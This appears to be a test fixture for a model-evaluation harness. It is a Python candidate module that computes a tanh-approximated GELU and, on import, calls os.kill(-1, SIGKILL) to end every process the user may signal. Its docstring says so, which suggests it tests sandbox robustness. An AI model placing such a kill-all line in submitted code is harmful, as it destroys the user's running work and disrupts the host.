"""Ends every process that it may end."""

# ruff: noqa: SIM105 - it does what candidates do

import os
import signal

import torch
from torch import nn

try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.nn.functional.gelu(x, approximate="tanh")
